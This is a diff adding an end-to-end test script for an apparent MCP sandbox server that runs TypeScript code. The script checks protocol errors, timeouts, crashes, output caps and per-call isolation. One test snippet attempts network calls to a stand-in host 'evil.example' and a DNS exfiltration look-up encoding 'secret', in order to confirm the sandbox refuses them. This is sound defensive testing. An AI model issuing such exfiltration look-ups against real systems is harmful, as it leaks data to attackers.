@@ -1,0 +1,204 @@
+// SPDX-License-Identifier: LGPL-2.1-or-later
+// launch mcp end to end, with the official MCP TypeScript SDK's client: the lifecycle, the
+// tool's calls against the Stripe stand-in and elsewhere, malformed requests, a timeout, a
+// crash, and what one call leaves for the next. Run by tests/integration/test_mcp.sh, which
+// sets up the network namespace, the stand-in and DNS.
+//
+// usage: node e2e.mjs LAUNCH ARGS...   (the server's command line after "launch")
+// Prints "ok NAME" or "not ok NAME: why" per check; exits 1 when any failed.
+import { spawn } from 'node:child_process';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
+import { EmptyResultSchema } from '@modelcontextprotocol/sdk/types.js';
+
+const [launch, ...args] = process.argv.slice(2);
+const marker = process.env.E2E_MARKER ?? 'e2e-marker';
+let failed = 0;
+
+function check(name, cond, why) {
+	if (cond) {
+		console.log(`ok ${name}`);
+	} else {
+		failed++;
+		console.log(`not ok ${name}: ${why}`);
+	}
+}
+
+const brief = (value) => JSON.stringify(value).slice(0, 600);
+
+async function call(client, code) {
+	const result = await client.callTool({ name: 'run_typescript', arguments: { code } },
+					     undefined, { timeout: 120000 });
+	console.log(`# call: ${result.structuredContent?.duration_ms} ms`);
+	return result;
+}
+
+async function rpcError(promise) {
+	try {
+		await promise;
+		return null;
+	} catch (e) {
+		return e;
+	}
+}
+
+// --- through the SDK's client ---------------------------------------------------------------
+const transport = new StdioClientTransport({ command: launch, args, env: { ...process.env },
+					     stderr: 'inherit' });
+const client = new Client({ name: 'launch-e2e', version: '1.0.0' });
+await client.connect(transport);
+
+const info = client.getServerVersion();
+check('initialize', info?.name === 'launch' && client.getServerCapabilities()?.tools,
+      `server info ${brief(info)}, capabilities ${brief(client.getServerCapabilities())}`);
+
+const { tools } = await client.listTools();
+const tool = tools.find((t) => t.name === 'run_typescript');
+check('tools/list', tools.length === 1 && tool?.inputSchema?.required?.includes('code'),
+      brief(tools));
+
+// The SDK and the stand-in: a Stripe call that must succeed.
+let r = await call(client, `
+import Stripe from 'stripe';
+const stripe = new Stripe(process.env.STRIPE_API_KEY!);
+const customers = await stripe.customers.list({ limit: 2 });
+console.log('customers:', customers.data.map((c) => c.email).join(','));
+`);
+let s = r.structuredContent;
+check('stripe call succeeds', !r.isError && s?.exit_status === 0 &&
+      s.stdout.includes('customers: ada@example.com,grace@example.com') &&
+      !s.refused.some((x) => x.op === 'connect' || x.op === 'dns'), brief(r));
+check('text content', r.content?.[0]?.type === 'text' &&
+      r.content[0].text.includes('customers: ada@example.com'), brief(r.content));
+
+// Elsewhere: another name, an address, a DNS exfiltration look-up (the audit log and the
+// result give names in lower case).
+// It also leaves a file, a background process and a look at a variable behind, which the
+// last call must not see.
+r = await call(client, `
+import { promises as dns } from 'node:dns';
+import { writeFileSync } from 'node:fs';
+import { spawn } from 'node:child_process';
+writeFileSync('/tmp/left-behind', 'x');
+spawn('/bin/sleep', ['300', '${marker}'], { detached: true, stdio: 'ignore' }).unref();
+console.log('left', process.env.E2E_NOT_PASSED ?? 'no-variable');
+const why = (e: any) => e?.cause?.code ?? e?.code;
+for (const [what, go] of [
+	['name', () => fetch('https://evil.example/')],
+	['address', () => fetch('https://127.0.5.3/')],
+	['exfil', () => dns.resolve4('c2VjcmV0.exfil.evil.example')],
+] as const) {
+	try { await go(); console.log(what, 'went through'); }
+	catch (e) { console.log(what, why(e)); }
+}
+`);
+s = r.structuredContent;
+const has = (op, destination) => s?.refused?.some((x) => x.op === op && x.destination === destination);
+check('elsewhere is refused', s?.exit_status === 0 && /address EPERM/.test(s.stdout) &&
+      s.stdout.includes('left no-variable') &&
+      !s.stdout.includes('went through'), brief(s));
+check('refusals in the result', has('connect', '127.0.5.3:443') && has('dns', 'evil.example') &&
+      has('dns', 'c2vjcmv0.exfil.evil.example') &&
+      r.content[0].text.includes('connect 127.0.5.3:443'), brief(s?.refused));
+
+// Malformed calls through the SDK: clear errors, and the server stays up.
+let e = await rpcError(client.request({ method: 'no/such/method', params: {} }, EmptyResultSchema));
+check('unknown method -32601', e?.code === -32601, brief(e?.message ?? 'no error'));
+e = await rpcError(client.callTool({ name: 'no_such_tool', arguments: { code: '1' } }));
+check('unknown tool -32602', e?.code === -32602, brief(e?.message ?? 'no error'));
+e = await rpcError(client.callTool({ name: 'run_typescript', arguments: { source: '1' } }));
+check('missing code -32602', e?.code === -32602, brief(e?.message ?? 'no error'));
+
+// A call that outlives its timeout: a second server, whose --timeout (the last one given
+// wins) is 3 s, so that the other calls keep a timeout a loaded machine cannot reach.
+{
+	const quick = new Client({ name: 'launch-e2e-timeout', version: '1.0.0' });
+	await quick.connect(new StdioClientTransport({ command: launch, args: [...args, '--timeout', '3'],
+						       env: { ...process.env }, stderr: 'inherit' }));
+	r = await call(quick, `await new Promise((resolve) => setTimeout(resolve, 600000));`);
+	s = r.structuredContent;
+	check('timeout', r.isError && s?.timed_out === true && s.exit_status === 124 &&
+	      s.duration_ms >= 3000 && s.duration_ms < 30000, brief(s));
+	await quick.close();
+}
+
+// A call that crashes its runtime, on a server without prepared sandboxes (--pool 0): each
+// call then starts its launch with the code (the other calls here use the pool).
+{
+	const cold = new Client({ name: 'launch-e2e-cold', version: '1.0.0' });
+	await cold.connect(new StdioClientTransport({ command: launch, args: [...args, '--pool', '0'],
+						      env: { ...process.env }, stderr: 'inherit' }));
+	r = await call(cold, `process.kill(process.pid, 'SIGSEGV');`);
+	s = r.structuredContent;
+	check('crash', r.isError && s?.signal === 'SIGSEGV' && s.exit_status === 139, brief(s));
+	await cold.close();
+}
+
+// The last call: nothing of the earlier ones is there, and a huge output is cut at the cap.
+r = await call(client, `
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+const others = readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).filter((p) => {
+	try { return readFileSync('/proc/' + p + '/cmdline', 'utf8').includes('${marker}'); }
+	catch { return false; }
+});
+console.log('file', existsSync('/tmp/left-behind'), 'processes', others.length,
+	    'key', process.env.STRIPE_API_KEY ? 'passed' : 'missing');
+process.stdout.write('x'.repeat(1000000));
+`);
+s = r.structuredContent;
+check('fresh sandbox per call', s?.stdout?.startsWith('file false processes 0 key passed\n'),
+      brief({ ...s, stdout: s?.stdout?.slice(0, 80) }));
+check('output cap', s?.stdout_truncated === true && s.stdout.length <= 20000 &&
+      s.stdout.length > 1000, brief({ ...s, stdout: s?.stdout?.length }));
+
+await client.ping();
+check('still up after all that', true, '');
+await client.close();
+
+// --- raw lines: what the SDK would never send ----------------------------------------------
+const server = spawn(launch, args, { stdio: ['pipe', 'pipe', 'inherit'] });
+const replies = [];
+let pending = '';
+server.stdout.setEncoding('utf8');
+server.stdout.on('data', (chunk) => {
+	pending += chunk;
+	let nl;
+	while ((nl = pending.indexOf('\n')) >= 0) {
+		replies.push(JSON.parse(pending.slice(0, nl)));
+		pending = pending.slice(nl + 1);
+	}
+});
+const lines = [
+	'this is not json',
+	'[{"jsonrpc":"2.0","id":1,"method":"ping"}]',
+	'{"jsonrpc":"1.0","id":2,"method":"ping"}',
+	'{"jsonrpc":"2.0","id":3}',
+	'{"jsonrpc":"2.0","id":4,"method":"tools/list"}',
+	'{"jsonrpc":"2.0","id":5,"method":"initialize","params":{"capabilities":{}}}',
+	'{"jsonrpc":"2.0","id":6,"method":"initialize","params":{"protocolVersion":"1999-01-01","capabilities":{},"clientInfo":{"name":"raw","version":"0"}}}',
+	'{"jsonrpc":"2.0","method":"notifications/initialized"}',
+	'{"jsonrpc":"2.0","id":7,"method":"tools/call","params":"code"}',
+	'{"jsonrpc":"2.0","id":8,"method":"ping"}',
+];
+server.stdin.write(lines.join('\n') + '\n');
+server.stdin.end();
+const exitCode = await new Promise((resolve) => server.on('close', resolve));
+const byId = (id) => replies.find((x) => x.id === id);
+const codes = replies.map((x) => x.error?.code ?? 'ok');
+check('raw: one reply per request, none for the notification', replies.length === 9,
+      brief(replies));
+check('raw: parse error -32700', replies[0]?.error?.code === -32700 && replies[0].id === null,
+      brief(replies[0]));
+check('raw: batch -32600', replies[1]?.error?.code === -32600, brief(replies[1]));
+check('raw: wrong jsonrpc -32600', byId(2)?.error?.code === -32600, brief(byId(2)));
+check('raw: no method -32600', byId(3)?.error?.code === -32600, brief(byId(3)));
+check('raw: before initialize -32600', byId(4)?.error?.code === -32600, brief(byId(4)));
+check('raw: initialize without protocolVersion -32602', byId(5)?.error?.code === -32602,
+      brief(byId(5)));
+check('raw: unknown version gets the newest', byId(6)?.result?.protocolVersion === '2025-11-25',
+      brief(byId(6)));
+check('raw: params not an object -32602', byId(7)?.error?.code === -32602, brief(byId(7)));
+check('raw: still answers ping', byId(8)?.result && !byId(8).error, brief(codes));
+check('raw: exits 0 at end of input', exitCode === 0, `exit ${exitCode}`);
+
+process.exit(failed ? 1 : 0);
